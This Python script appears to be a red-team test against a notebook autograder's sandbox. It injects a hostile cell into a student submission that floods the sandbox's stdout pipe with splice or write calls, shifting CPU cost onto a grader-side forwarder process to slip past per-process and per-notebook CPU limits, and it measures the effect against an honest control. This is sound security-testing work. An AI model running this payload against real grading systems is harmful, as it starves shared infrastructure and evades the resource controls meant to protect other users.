"""a01: re-attack of round 22's fix (each grader process for one submission may use at most 60 s of CPU; the
grading process's CPU for one notebook, all threads, at most 30 s). The sandbox's own stdout/stderr (not the
notebook's outputs) is a pipe drained by `sandbox.forward_output`'s process, a fork of the kernel's launcher on the
grader's side: it reads 64 KiB at a time and keeps only the first 64 kB. It is a process of its own, so neither the
grading child's RLIMIT_CPU (per process) nor the notebook's 30 s timer (the grading process's threads) counts what
it spends. The kernel splices a tmpfs file into that pipe (page references, no copy on the kernel's side) for DUR
seconds of one cell; the forwarder copies and throws away every byte.
Through `python -m grader.grade --course-dir DIR --workers 1`, mallory + an honest student (control)."""
import os, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common23 import *  # noqa
from common23 import _descends, GRADER, ROOT  # noqa

A = "ps1_memory"
DUR = float(os.environ.get("DUR", "90"))
MODE = os.environ.get("MODE", "splice")  # splice (refused by seccomp: falls back to 1 MiB writes), small

PAYLOAD = f'''
def __flood(dur={DUR}, mode={MODE!r}):
    import os, sys, time
    fd = getattr(sys.stdout, "_original_stdstream_copy", None)
    if fd is None:
        fd = 1
    where = os.readlink("/proc/self/fd/%d" % fd)
    with open("/tmp/.zz", "wb") as fh:
        fh.write(b"y" * (4 << 20))
    src = os.open("/tmp/.zz", os.O_RDONLY)
    buf = b"y" * (1 << 20)
    t0, n, err = time.time(), 0, None
    c0 = time.process_time()
    while time.time() - t0 < dur:
        try:
            if mode == "splice":
                n += os.splice(src, fd, 1 << 20, offset_src=0)
            elif mode == "small":  # one byte a write: the forwarder wakes, selects, reads and polls for each
                n += os.write(fd, b"y")
            else:
                n += os.write(fd, buf)
        except OSError as e:
            err = repr(e)
            if mode == "splice":
                mode = "write"; continue
            break
    return where, mode, n, err, round(time.process_time() - c0, 1)
__r = __flood()
print("forward flood: pipe, mode, bytes, error, kernel CPU-s:", __r)
'''


def hostile():
    def mutate(nb):
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c.source += "\n" + PAYLOAD
                break
    return notebook(mutate=mutate, assignment=A)


class Threads(threading.Thread):
    """CPU seconds per process of the grading command's descendants, with uid and command."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop, self.seen = False, {}

    def run(self):
        while not self.stop:
            top = GRADER.get("pid")
            for p in os.listdir("/proc"):
                if not p.isdigit() or top is None or not _descends(int(p), top):
                    continue
                try:
                    uid = next(int(l.split()[1]) for l in open(f"/proc/{p}/status") if l.startswith("Uid:"))
                    cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:70]
                    cg = [l.split(":", 2)[2] for l in open(f"/proc/{p}/cgroup").read().splitlines() if "cpu" in l.split(":")[1].split(",") or l.startswith("0::")][:1]
                    st = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                    ticks = int(st[11]) + int(st[12])
                    old = self.seen.get(p, (0,))[0]
                    self.seen[p] = (max(old, ticks), uid, cmd.replace(ROOT, "<clone>"), (cg[0] if cg else "?")[-40:])
                except (OSError, StopIteration):
                    continue
            time.sleep(0.5)

    def show(self):
        tck = os.sysconf("SC_CLK_TCK")
        for p, (ticks, uid, cmd, cg) in sorted(self.seen.items(), key=lambda kv: -kv[1][0])[:12]:
            print(f"   uid {uid:5d} cpu cgroup {cg:40s} {ticks / tck:7.1f} CPU-s  pid {p} {cmd}")


def main():
    th = Threads()
    th.start()
    r = r18_runner("/tmp/attack23-a01-", A)
    h = honest(A)
    if os.environ.get("BASE"):
        r.run("base", {"aa_honest": h, "zz_honest": h}, 1)
        th.show(); th.seen.clear()
    original_cleanup = r.cleanup

    def show_then_cleanup(dest):
        nbp = os.path.join(dest, "autograded", "mallory", A, f"{A}.ipynb")
        if os.path.exists(nbp):
            import json as _json
            for c in _json.load(open(nbp))["cells"]:
                for o in c.get("outputs", []):
                    if "forward flood" in str(o.get("text", "")):
                        print("mallory's cell printed:", str(o.get("text"))[:400])
        rp = os.path.join(dest, "grading_report.json")
        if os.path.exists(rp):
            print(open(rp).read()[:3000].replace(ROOT, "<clone>"))
        original_cleanup(dest)
    r.cleanup = show_then_cleanup
    r.run("forward", {"mallory": hostile(), "zz_honest": h}, 1)
    th.stop = True
    print("per process (top 12):")
    th.show()


if __name__ == "__main__":
    main()
